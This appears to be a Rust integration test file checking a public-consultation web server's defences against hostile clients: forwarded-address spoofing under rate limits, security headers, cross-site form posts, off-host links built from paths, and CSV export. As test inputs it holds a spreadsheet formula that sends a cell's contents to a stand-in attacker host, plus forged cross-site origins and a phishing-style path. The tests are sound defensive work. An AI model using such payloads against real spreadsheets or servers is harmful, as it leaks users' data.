//! The web edge against a hostile client (docs/hardening.md, docs/public-channel.md,
//! docs/open-data.md), on the real server over HTTP:
//!
//! - the rate limit's client address: `X-Forwarded-For` ignored from an untrusted peer,
//!   read right to left from a `--trusted-proxy` peer, never escaped by a forged
//!   left-most address; a bad `--trusted-proxy` refused by the binary;
//! - the security headers on pages, JSON answers, documents, tiles, 404s and errors;
//! - the comment form refusing posts from another site (403, a page in the reader's
//!   language, nothing appended);
//! - no link to another host built from the request path (`//evil.example/...`);
//! - `comments.csv`: a formula made text, and the file streamed chunk by chunk with every
//!   row of a consultation with more comments than one chunk;
//! - a public comment on a consultation that does not exist: 404;
//! - `sijill verify` without `--log-key` warning that it trusts the folder's own key.

use reqwest::header::{HeaderMap, ACCEPT, CONTENT_TYPE};
use reqwest::StatusCode;
use serde_json::{json, Value};

use crate::public_channel::{Consultation, CONSULTATION};
use crate::support::{run_binary, Backend, TestApp};

both_backends!(
    forwarded_for_is_ignored_from_an_untrusted_peer,
    a_trusted_proxy_names_the_client_by_the_rightmost_untrusted_address,
    the_comment_form_refuses_posts_from_another_site,
    comments_csv_makes_formulas_text_and_streams_every_row,
    a_comment_on_a_consultation_that_does_not_exist_is_404,
);

/// Posts a public comment through the API with these extra headers; the status and code.
async fn comment_with(c: &Consultation, text: &str, extra: &[(&str, &str)]) -> (u16, Value) {
    let mut request = c
        .http
        .post(c.url(&format!("/v1/consultations/{CONSULTATION}/comments")))
        .header(CONTENT_TYPE, "application/json")
        .body(json!({"text": text, "article": null}).to_string());
    for (name, value) in extra {
        request = request.header(*name, *value);
    }
    let response = request.send().await.expect("POST a comment");
    let status = response.status().as_u16();
    let body = response.json().await.unwrap_or(Value::Null);
    (status, body)
}

async fn forwarded_for_is_ignored_from_an_untrusted_peer(backend: Backend) {
    // No --trusted-proxy: the test's own address (127.0.0.1) is the only client there is.
    let c = Consultation::open(backend, 2).await;
    let size = c.tree_size().await;
    let spoofs = ["198.51.100.1", "198.51.100.2", "198.51.100.3"];
    let mut statuses = Vec::new();
    for (i, spoof) in spoofs.iter().enumerate() {
        let (status, body) =
            comment_with(&c, &format!("Avis {i}"), &[("x-forwarded-for", spoof)]).await;
        statuses.push(status);
        if status == 429 {
            assert_eq!(body["error"], "rate_limited", "{body}");
        }
    }
    assert_eq!(
        statuses,
        [201, 201, 429],
        "three forged addresses are one peer's bucket"
    );
    assert_eq!(c.tree_size().await, size + 2);
}

async fn a_trusted_proxy_names_the_client_by_the_rightmost_untrusted_address(backend: Backend) {
    let c = Consultation::open_configured(backend, |options| {
        options.public_comments_per_minute = 1;
        options.trusted_proxies = vec!["127.0.0.0/8".parse().unwrap()];
    })
    .await;
    let mut n = 0;
    let mut post = |forwarded: &'static str| {
        n += 1;
        let text = format!("Avis relayé {n}");
        let c = &c;
        async move {
            comment_with(c, &text, &[("x-forwarded-for", forwarded)])
                .await
                .0
        }
    };
    // Two clients behind the proxy: a bucket each.
    assert_eq!(post("198.51.100.1").await, 201);
    assert_eq!(post("198.51.100.2").await, 201);
    assert_eq!(
        post("198.51.100.1").await,
        429,
        "the first client's bucket is empty"
    );
    // A forged left-most address does not make a new client: the proxy appended the real one.
    assert_eq!(post("203.0.113.99, 198.51.100.1").await, 429);
    assert_eq!(post("203.0.113.98, 198.51.100.2").await, 429);
    // A chain of trusted proxies is walked past: the right-most untrusted is the client.
    assert_eq!(post("203.0.113.7, 127.0.0.2").await, 201);
    assert_eq!(post("203.0.113.7").await, 429);
    // A header that is not a list of addresses counts as the proxy itself (one bucket).
    assert_eq!(post("not-an-address").await, 201);
    assert_eq!(post("198.51.100.9,").await, 429);
    // No header behind the proxy: the proxy's own bucket, the one just spent.
    assert_eq!(
        comment_with(&c, "Sans en-tête", &[]).await.0,
        429,
        "the peer's bucket"
    );
}

/// The binary refuses a `--trusted-proxy` that is not a strict CIDR, before starting.
#[tokio::test]
async fn a_bad_trusted_proxy_is_refused_with_a_clear_error() {
    let dir = tempfile::tempdir().expect("temp dir");
    let data = dir.path().join("data");
    for bad in [
        "10.0.0.1/8",
        "10.0.0.0/33",
        "localhost",
        "10.0.0.0/08",
        "2001:db8::/129",
    ] {
        let (code, _, stderr) = run_binary(&[
            "serve",
            "--data",
            data.to_str().unwrap(),
            "--listen",
            "127.0.0.1:0",
            "--trusted-proxy",
            bad,
        ])
        .await;
        assert_eq!(code, 2, "{bad}: {stderr}");
        assert!(
            stderr.contains("--trusted-proxy") && stderr.contains("invalid CIDR"),
            "{bad}: {stderr}"
        );
    }
    assert!(!data.exists(), "nothing was started");
}

#[track_caller]
fn assert_hardened(what: &str, headers: &HeaderMap) {
    let header = |name: &str| {
        headers
            .get(name)
            .and_then(|v| v.to_str().ok())
            .unwrap_or_else(|| panic!("{what}: no {name} in {headers:?}"))
            .to_owned()
    };
    let csp = header("content-security-policy");
    for directive in [
        "default-src 'self'",
        "frame-ancestors 'none'",
        "base-uri 'none'",
        "form-action 'self'",
    ] {
        assert!(csp.contains(directive), "{what}: {csp}");
    }
    assert_eq!(header("x-content-type-options"), "nosniff", "{what}");
    assert_eq!(header("referrer-policy"), "same-origin", "{what}");
}

/// Every kind of answer carries the security headers, and no page links to another host
/// built from the request's path.
#[tokio::test]
async fn every_answer_is_hardened_and_no_link_leaves_the_host() {
    let app = Consultation::open(Backend::Sqlite, 100).await;
    // A public comment's text: a document the log names, served to anyone.
    app.accepted(&json!({"text": "Annexe", "article": null}))
        .await;
    let sha = sijill_sha(b"Annexe");
    let size = app.tree_size().await;
    let cases: Vec<(&str, String, &str, u16)> = vec![
        ("a page", "/".into(), "text/html", 200),
        (
            "a JSON answer",
            "/v1/offers".into(),
            "application/json",
            200,
        ),
        ("the checkpoint", "/v1/log/checkpoint".into(), "*/*", 200),
        ("a document", format!("/v1/documents/{sha}"), "*/*", 200),
        (
            "a tile",
            format!("/log/tile/entries/000.p/{size}"),
            "*/*",
            200,
        ),
        ("a tiles checkpoint", "/log/checkpoint".into(), "*/*", 200),
        (
            "a JSON 404",
            "/v1/nothing-here".into(),
            "application/json",
            404,
        ),
        ("an HTML 404", "/nothing-here".into(), "text/html", 404),
        (
            "a JSON error",
            "/v1/offers?page=zero".into(),
            "application/json",
            400,
        ),
        ("a static file", "/static/verify.js".into(), "*/*", 200),
    ];
    for (what, path, accept, status) in cases {
        let response = app
            .http
            .get(app.url(&path))
            .header(ACCEPT, accept)
            .send()
            .await
            .expect("GET");
        assert_eq!(response.status().as_u16(), status, "{what}: {path}");
        assert_hardened(what, response.headers());
    }
    // A 405 axum writes itself, rewritten to JSON, carries them too.
    let response = app
        .http
        .delete(app.url("/v1/offers"))
        .send()
        .await
        .expect("DELETE");
    assert_eq!(response.status().as_u16(), 405);
    assert_hardened("a 405", response.headers());

    // `//evil.example/phish` is a path of this server; its 404 page links only here.
    let response = app
        .http
        .get(format!("{}//evil.example/phish", app.base))
        .header(ACCEPT, "text/html")
        .send()
        .await
        .expect("GET //evil.example/phish");
    assert_eq!(response.status().as_u16(), 404);
    let body = response.text().await.expect("a page");
    assert!(!body.contains("//evil.example"), "{body}");
    assert!(
        body.contains("href=\"/evil.example/phish?lang=ar\""),
        "the language switch stays on this host: {body}"
    );
}

fn sijill_sha(bytes: &[u8]) -> String {
    ledger::hash::to_hex(&ledger::hash::sha256(bytes))
}

/// Posts the comment form (urlencoded, as a browser does) with these extra headers.
async fn post_form(c: &Consultation, text: &str, extra: &[(&str, String)]) -> (u16, String) {
    let mut request = c
        .http
        .post(c.url(&format!("/consultations/{CONSULTATION}/comments")))
        .form(&[("text", text), ("article", ""), ("lang", "ar")]);
    for (name, value) in extra {
        request = request.header(*name, value);
    }
    let response = request.send().await.expect("POST the form");
    let status = response.status().as_u16();
    (status, response.text().await.expect("a page"))
}

async fn the_comment_form_refuses_posts_from_another_site(backend: Backend) {
    let c = Consultation::open(backend, 100).await;
    let size = c.tree_size().await;
    let host = c.base.trim_start_matches("http://").to_owned();
    for extra in [
        vec![("origin", "http://evil.example".to_owned())],
        vec![("origin", "null".to_owned())],
        vec![("origin", format!("http://{host}.evil.example"))],
        vec![("sec-fetch-site", "cross-site".to_owned())],
        vec![
            ("origin", format!("http://{host}")),
            ("sec-fetch-site", "cross-site".to_owned()),
        ],
    ] {
        let (status, page) = post_form(&c, "Avis venu d'ailleurs", &extra).await;
        assert_eq!(status, 403, "{extra:?}: {page}");
        assert!(
            page.contains("dir=\"rtl\""),
            "the reader's language: {page}"
        );
        assert!(page.contains("موقع آخر"), "a sentence saying why: {page}");
    }
    assert_eq!(c.tree_size().await, size, "nothing was appended");
    // The same form from this site's own page is taken.
    let (status, page) = post_form(
        &c,
        "Avis venu d'ici",
        &[
            ("origin", format!("http://{host}")),
            ("sec-fetch-site", "same-origin".to_owned()),
        ],
    )
    .await;
    assert_eq!(status, 201, "{page}");
    assert_eq!(c.tree_size().await, size + 1);
}

async fn comments_csv_makes_formulas_text_and_streams_every_row(backend: Backend) {
    let c = Consultation::open(backend, 1000).await;
    let formula = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Voir\")";
    // More comments than one chunk of the streamed file.
    let count = sijill_comments_per_chunk() + 30;
    let text_of = |n: usize| match n {
        1 => formula.to_owned(),
        2 => "-2+3".to_owned(),
        n => format!("Avis numéro {n}"),
    };
    for n in 1..=count {
        let reply = c
            .comment(&json!({"text": text_of(n), "article": null}))
            .await;
        assert_eq!(reply.status, StatusCode::CREATED, "{}", reply.text());
    }
    // Streamed: sent as it is written, so its length is not known up front.
    let streamed = c
        .http
        .get(c.url("/v1/exports/comments.csv"))
        .send()
        .await
        .expect("GET comments.csv");
    assert_eq!(streamed.status(), StatusCode::OK);
    assert!(
        streamed.headers().get("content-length").is_none()
            && streamed
                .headers()
                .get("transfer-encoding")
                .is_some_and(|v| v == "chunked"),
        "{:?}",
        streamed.headers()
    );
    let csv = c.get("/v1/exports/comments.csv").await;
    assert_eq!(csv.status, StatusCode::OK);
    assert!(csv.content_type.starts_with("text/csv"));
    let mut reader = csv::Reader::from_reader(csv.bytes.as_slice());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), count, "one row per comment");
    for (i, row) in rows.iter().enumerate() {
        let n = i + 1;
        assert_eq!(row[col("consultation_id")], *CONSULTATION);
        assert_eq!(
            row[col("comment_number")],
            n.to_string(),
            "numbers stay numbers"
        );
        let expected = match n {
            1 => format!("'{formula}"),
            2 => "'-2+3".to_owned(),
            n => text_of(n),
        };
        assert_eq!(row[col("text")], expected, "row {n}");
        assert_eq!(row[col("channel")], *"public");
    }
}

fn sijill_comments_per_chunk() -> usize {
    api::COMMENTS_CSV_ROWS_PER_CHUNK
}

async fn a_comment_on_a_consultation_that_does_not_exist_is_404(backend: Backend) {
    let c = Consultation::open(backend, 100).await;
    let size = c.tree_size().await;
    let reply = c
        .comment_to(
            "CONS-FANTOME",
            br#"{"text": "x", "article": null}"#.to_vec(),
        )
        .await;
    reply.assert_error(404, "no_consultation");
    // One that exists but is closed stays 409.
    c.clock.set("2026-03-02T00:00:00.000Z");
    c.comment(&json!({"text": "Trop tard", "article": null}))
        .await
        .assert_error(409, "window_closed");
    assert_eq!(c.tree_size().await, size);
}

/// `sijill verify` without `--log-key` says on standard error that it trusts the folder's
/// own `log.pub`; with `--log-key` it does not.
#[tokio::test]
async fn verify_warns_when_it_trusts_the_folders_own_key() {
    let app = TestApp::start(Backend::Sqlite).await;
    let out = app.export_and_verify(app.scratch(), "export").await;
    let dir = out.to_str().unwrap();
    let (code, _, stderr) = run_binary(&["verify", dir]).await;
    assert_eq!(code, 0, "{stderr}");
    assert!(
        stderr.contains("warning: no --log-key given") && stderr.contains("log.pub"),
        "{stderr}"
    );
    let key = app.log_key.to_string();
    let (code, _, stderr) = run_binary(&["verify", dir, "--log-key", &key]).await;
    assert_eq!(code, 0, "{stderr}");
    assert!(!stderr.contains("warning"), "{stderr}");
}
